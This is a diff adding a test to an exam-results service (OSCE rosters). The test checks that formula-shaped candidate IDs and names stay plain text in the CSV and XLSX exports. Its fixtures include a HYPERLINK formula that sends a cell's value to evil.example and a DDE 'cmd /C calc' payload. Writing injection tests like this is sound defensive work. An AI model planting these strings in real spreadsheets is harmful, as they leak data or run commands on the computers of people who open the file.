@@ -388,3 +388,57 @@ def test_audit_verify_names_every_table_that_decides_a_result(
         result = verify(db, db.audit_key)
     assert not result.ok, name
     assert table in str(result.problem), (name, result.problem)
+
+
+# ------------------------------------------------------------------ formula injection
+
+FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_formula_names_stay_text_in_every_export(tmp_path: Path) -> None:
+    import csv
+    import json
+
+    from openpyxl import load_workbook
+    from test_services_support import build_world
+
+    world = build_world(tmp_path / "world")
+    services = world.services
+    roster = tmp_path / "roster.csv"
+    with roster.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(
+            [["candidate_id", "family_name", "given_name"], [FORMULA_ID, FORMULA_NAME, "-2+3"]]
+        )
+    services.import_roster(world.cora, "OSCE-1", roster)
+    encounter = services.check_in(world.eli, "OSCE-1", "alpha", FORMULA_ID)
+    services.submit(world.eli, encounter.id, allow_incomplete=True)
+
+    out = tmp_path / "results.csv"
+    services.export_results(world.cora, "OSCE-1", "csv", out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        ids = {row["candidate_id"] for row in csv.DictReader(handle)}
+    assert "'" + FORMULA_ID in ids and FORMULA_ID not in ids
+
+    items = tmp_path / "items.csv"
+    services.export_results(world.cora, "OSCE-1", "items-csv", items)
+    text = items.read_text(encoding="utf-8")
+    for line in text.splitlines()[1:]:
+        assert not line.startswith(("=", "+", "-", "@", '"=')), line
+
+    book_path = tmp_path / "results.xlsx"
+    services.export_results(world.cora, "OSCE-1", "xlsx", book_path)
+    book = load_workbook(book_path)
+    seen = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if cell.value in (FORMULA_ID, FORMULA_NAME, "-2+3"):
+                    seen.add(cell.value)
+    assert seen == {FORMULA_ID, FORMULA_NAME, "-2+3"}  # kept as the text it is
+
+    statements = tmp_path / "results.json"
+    services.export_results(world.cora, "OSCE-1", "xapi", statements)
+    json.loads(statements.read_text(encoding="utf-8"))  # JSON: no formulas to fear
+    world.close()
